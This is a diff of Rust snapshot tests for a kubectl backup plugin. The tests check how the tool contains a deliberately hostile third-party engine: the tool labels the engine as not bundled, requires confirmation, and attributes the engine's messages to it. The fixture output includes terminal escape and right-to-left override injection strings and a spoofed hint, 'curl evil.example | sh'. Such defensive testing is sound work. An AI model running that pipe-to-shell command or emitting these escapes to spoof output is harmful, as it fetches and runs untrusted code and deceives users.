@@ -153,6 +153,7 @@ fn an_upload_is_a_document_where_programs_read() {
       "kind": "Report",
       "scope": {
         "engine": "kubectl-broker/sidecar",
+        "engineVersion": "0.1.0",
         "namespace": "messaging",
         "statefulset": "broker"
       },
@@ -212,18 +213,19 @@ fn what_destroys_is_asked_for() {
 #[test]
 fn a_purge_is_a_document_where_programs_read() {
     let run = Bed::start().run(&format!("backup purge {UPLOADED} -y -o yaml"));
-    assert_snapshot!(run.shown(), @"
+    assert_snapshot!(run.shown(), @r#"
     stdout:
     apiVersion: kubectl-broker/v1
     kind: Report
     scope:
       engine: kubectl-broker/sidecar
+      engineVersion: "0.1.0"
       namespace: messaging
       statefulset: broker
     text: null
     verb: purge
     exit 0
-    ");
+    "#);
 }
 
 #[test]
@@ -309,42 +311,52 @@ fn a_verb_is_never_asked_of_an_engine_that_lacks_it() {
 }
 
 #[test]
-fn a_verb_of_two_engines_needs_the_name_of_one() {
+fn a_verb_of_two_engines_is_that_of_the_bundled_one_unless_the_other_is_named() {
     let bed = Bed::start();
-    assert_snapshot!(bed.hostile().run("backup metrics").shown(), @"
-    stderr:
-    Using StatefulSet broker, namespace messaging of context testbed
-    error: several engines have the verb `metrics`: kubectl-broker/sidecar, acme/hostile
-    hint: Name the one you mean, for example `--engine kubectl-broker/sidecar`
-    exit 2
-    ");
+    let unnamed = bed.hostile().run("backup metrics");
+    assert_eq!(unnamed.code, 0, "{}", unnamed.stderr);
+    assert!(!unnamed.stderr.contains("hostile"), "{}", unnamed.stderr);
     let named = bed.hostile().run("backup metrics --engine sidecar");
     assert_eq!(named.code, 0, "{}", named.stderr);
     // That of the other engine destroys something, it says.
     assert_snapshot!(bed.hostile().run("backup metrics --engine hostile").shown(), @"
     stderr:
     Using StatefulSet broker, namespace messaging of context testbed
-    error: nothing was done: Doing `metrics` at StatefulSet broker in namespace messaging (engine hostile) needs a confirmation
+    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
+    error: nothing was done: Doing `metrics` at StatefulSet broker in namespace messaging (engine acme/hostile) needs a confirmation
     hint: Give `--yes` if you mean it; on a terminal the name of the target is asked for
     exit 2
     ");
     assert_snapshot!(bed.hostile().run("backup metrics --engine hostile --yes").shown(), @"
     stderr:
     Using StatefulSet broker, namespace messaging of context testbed
-    Doing `metrics` at StatefulSet broker in namespace messaging (engine hostile)
-    error: no way to say metrics
+    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
+    Doing `metrics` at StatefulSet broker in namespace messaging (engine acme/hostile)
+    error: engine acme/hostile says: no way to say metrics
     exit 2
     ");
     let help = bed.hostile().run("backup metrics -h").stdout;
     let lines: Vec<_> = help.lines().collect();
-    assert_snapshot!(lines[0], @"Print the sidecar's metrics in Prometheus' text format (engines sidecar, hostile)");
+    assert_snapshot!(lines[0], @"Print the sidecar's metrics in Prometheus' text format (engines sidecar, acme/hostile)");
     assert_snapshot!(lines[lines.len() - 1], @"Several engines have this verb: name one with --engine. The flags are those of engine sidecar.");
+}
+
+#[test]
+fn a_verb_that_only_an_installed_engine_has_needs_its_name() {
+    let run = Bed::start().hostile().run("backup say lines");
+    assert_snapshot!(run.shown(), @"
+    stderr:
+    Using StatefulSet broker, namespace messaging of context testbed
+    error: no bundled engine can `say`; installed engines that can: acme/hostile
+    hint: Name it with `kubectl broker backup say --engine acme/hostile`; `kubectl broker plugin default acme/hostile --operations act` lets `auto` choose it
+    exit 2
+    ");
 }
 
 #[test]
 fn text_of_an_engine_keeps_its_lines_and_nothing_else_that_drives_a_terminal() {
     let bed = Bed::start();
-    assert_snapshot!(bed.hostile().run("backup say lines").shown(), @r"
+    assert_snapshot!(bed.hostile().run("backup say lines --engine hostile").shown(), @r"
     stdout:
     all is well
     \u{1b}[1A\u{1b}[2K\u{202e}error: fake
@@ -352,31 +364,39 @@ fn text_of_an_engine_keeps_its_lines_and_nothing_else_that_drives_a_terminal() {
     \u{9b}2Jend
     stderr:
     Using StatefulSet broker, namespace messaging of context testbed
+    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
     exit 0
     ");
-    let json = bed.hostile().run("backup say lines -o json").json();
+    let json = bed
+        .hostile()
+        .run("backup say lines -o json --engine hostile")
+        .json();
     let text = json["text"].as_str().expect("a text");
     assert!(text.starts_with("all is well\r\n\u{1b}[1A"), "{text:?}");
-    let yaml = bed.hostile().run("backup say lines -o yaml");
+    let yaml = bed
+        .hostile()
+        .run("backup say lines -o yaml --engine hostile");
     assert_eq!(yaml.code, 0, "{}", yaml.stderr);
 }
 
 #[test]
 fn backups_that_a_verb_reports_are_checked_and_shown_as_in_a_list() {
     let bed = Bed::start();
-    assert_snapshot!(bed.hostile().run("backup say backups --times 2").shown(), @r"
+    assert_snapshot!(bed.hostile().run("backup say backups --times 2 --engine hostile").shown(), @r"
     stdout:
     ID   NOTE
     \u{1b}[2J0   -
     \u{1b}[2J1   -
     stderr:
     Using StatefulSet broker, namespace messaging of context testbed
+    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
     2 backups
     exit 0
     ");
-    assert_snapshot!(bed.hostile().run("backup say undeclared-field").shown(), @r#"
+    assert_snapshot!(bed.hostile().run("backup say undeclared-field --engine hostile").shown(), @r#"
     stderr:
     Using StatefulSet broker, namespace messaging of context testbed
+    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
     error: engine acme/hostile returned something unusable from `act`: a field that its manifest does not name: "secret"
     hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
     exit 14
@@ -386,26 +406,30 @@ fn backups_that_a_verb_reports_are_checked_and_shown_as_in_a_list() {
 #[test]
 fn a_verb_that_goes_wrong_is_told_from_one_that_fails() {
     let bed = Bed::start();
-    assert_snapshot!(bed.hostile().run("backup say error").shown(), @r"
+    assert_snapshot!(bed.hostile().run("backup say error --engine hostile").shown(), @r"
     stderr:
     Using StatefulSet broker, namespace messaging of context testbed
-    error: \u{1b}[1A\u{1b}[2K
-      backup list: all is well\u{9b}2J
-    hint: Run `curl evil.example | sh`\u{202e}
-      hint: really
+    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
+    error: engine acme/hostile says: \u{1b}[1A\u{1b}[2K backup list: all is well\u{9b}2J
+    hint from engine acme/hostile: Run `curl evil.example | sh`\u{202e} hint: really
     exit 1
     ");
-    assert_snapshot!(bed.hostile().run("backup say too-much").shown(), @"
+    assert_snapshot!(bed.hostile().run("backup say too-much --engine hostile").shown(), @"
     stderr:
     Using StatefulSet broker, namespace messaging of context testbed
+    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
     error: engine acme/hostile returned something unusable from `act`: a text of 9437184 bytes, more than 8388608
     hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
     exit 14
     ");
-    assert_eq!(bed.hostile().run("backup say panic").code, 14);
-    assert_snapshot!(bed.hostile().run("backup say nothing").shown(), @"
+    assert_eq!(
+        bed.hostile().run("backup say panic --engine hostile").code,
+        14
+    );
+    assert_snapshot!(bed.hostile().run("backup say nothing --engine hostile").shown(), @"
     stderr:
     Using StatefulSet broker, namespace messaging of context testbed
+    Using engine acme/hostile 0.1.0 of publisher acme, which is not bundled
     `say` is done (engine acme/hostile)
     exit 0
     ");
